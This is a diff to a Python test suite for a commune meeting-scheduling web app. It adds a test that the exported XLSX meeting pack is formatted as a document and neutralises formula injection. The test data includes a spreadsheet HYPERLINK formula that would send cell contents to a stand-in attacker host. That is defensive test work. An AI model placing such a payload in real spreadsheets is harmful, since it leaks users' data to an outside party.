@@ -4,14 +4,18 @@ form refuses), bad input changes nothing, a recurrence is saved, the XLSX has on
 from __future__ import annotations
 
 import io
-from datetime import datetime, timedelta
+from datetime import UTC, datetime, timedelta
 
 import openpyxl
 from aiohttp.test_utils import TestClient
 from sqlalchemy import func, select
 
 from bot.app import App
+from models.giaoban_reports import save_report
+from models.giaoban_rules import GiaobanRules
 from models.giaoban_tables import GiaobanConclusion, GiaobanMeeting, GiaobanSchedule
+from models.reports import Actor
+from models.tables import Unit
 from tests.bot.web.conftest import Demo, csrf_of, login
 from texts.catalog import t
 
@@ -42,8 +46,8 @@ async def test_scope_bad_input_recurrence_and_xlsx(client: TestClient, web_app: 
 
     xlsx = await client.get(meeting_url + "/pack.xlsx")
     rows = list(openpyxl.load_workbook(io.BytesIO(await xlsx.read())).active.iter_rows(values_only=True))  # type: ignore[union-attr]
-    assert rows[0][:3] == (t("gb.pack.col_village"), t("gb.pack.col_reported"), t("gb.pack.col_attending"))
-    assert len(rows) > 2 and all(r[1] == t("gb.pack.no") for r in rows[1:])
+    assert rows[4][:3] == (t("gb.pack.col_village"), t("gb.pack.col_reported"), t("gb.pack.col_attending"))
+    assert len(rows) > 6 and all(r[1] == t("gb.pack.no") for r in rows[5:])
     short = await client.post(meeting_url + "/conclusion", data={"csrf": csrf, "text": "ok"})
     assert short.status == 400 and t("gb.refused.conclusion_empty") in await short.text()
     past = await client.post(meeting_url + "/conclusion", data={"csrf": csrf, "text": "Làm đường", "due": "2001-01-01"})
@@ -58,3 +62,41 @@ async def test_scope_bad_input_recurrence_and_xlsx(client: TestClient, web_app: 
     sneaky = await client.post(meeting_url + "/conclusion", data={"csrf": csrf2, "text": "Việc của xã khác"})
     assert sneaky.status == 404 and (await client.get(meeting_url + "/pack.xlsx")).status == 404
     assert await _count(web_app, GiaobanConclusion) == 0
+
+
+async def test_the_pack_xlsx_is_a_document_and_keeps_a_heads_formula_as_text(
+        client: TestClient, web_app: App, demo: Demo) -> None:
+    assert await login(client, "canbo1", demo.passwords["canbo1"]) == 303
+    csrf = csrf_of(await (await client.get("/giaoban")).text())
+    day = (datetime.now(web_app.config.tz) + timedelta(days=2)).strftime("%d/%m/%Y")
+    resp = await client.post("/giaoban/schedule", data={"csrf": csrf, "commune": demo.units["canbo1"], "date": day,
+                                                        "time": "08:00", "place": "Hội trường"},
+                             allow_redirects=False)
+    meeting_url = resp.headers["Location"]
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+    async with web_app.sessions() as s, s.begin():
+        meeting = (await s.execute(select(GiaobanMeeting))).scalar_one()
+        village = (await s.execute(select(Unit).where(Unit.code == demo.heads[0][1]))).scalar_one()  # type: ignore[arg-type]
+        await save_report(s, meeting, village.id, {"urgent": evil, "economy": "+84 912 345 678"},  # type: ignore[arg-type]
+                          Actor(None, "web"), datetime.now(UTC), GiaobanRules())
+    due = (datetime.now(web_app.config.tz) + timedelta(days=9)).strftime("%d/%m/%Y")
+    done = await client.post(meeting_url + "/conclusion", data={"csrf": csrf, "text": "@SUM(A1:A9) rà soát hộ nghèo",
+                                                                "due": due}, allow_redirects=False)
+    assert done.status == 303
+    book = openpyxl.load_workbook(io.BytesIO(await (await client.get(meeting_url + "/pack.xlsx")).read()))
+    sheet, tasks = book.worksheets
+    assert sheet["A1"].value.startswith("TÀI LIỆU GIAO BAN") and sheet["A1"].font.b
+    assert "Hội trường" in sheet["A2"].value and day in sheet["A2"].value  # the meeting's date and place
+    assert sheet["A5"].font.b and sheet.freeze_panes == "A6" and sheet.auto_filter.ref.startswith("A5:")
+    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.paperSize == 9
+    assert sheet.print_title_rows == "$5:$5"
+    cells = [c for row in sheet.iter_rows() for c in row if c.value]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula anywhere
+    formula = next(c for c in cells if c.value == evil)
+    assert formula.data_type == "s" and formula.quotePrefix and formula.alignment.wrap_text
+    phone = next(c for c in cells if c.value == "+84 912 345 678")
+    assert not phone.quotePrefix  # a phone number cannot be a formula: left as it is
+    assert tasks.title == t("gb.xlsx.sheet_conclusions") and tasks["A5"].value == t("gb.xlsx.col_no")
+    task_rows = list(tasks.iter_rows(min_row=6, values_only=True))
+    assert task_rows and all(r[1] == "@SUM(A1:A9) rà soát hộ nghèo" for r in task_rows)
+    assert not [c.coordinate for row in tasks.iter_rows() for c in row if c.data_type == "f"]
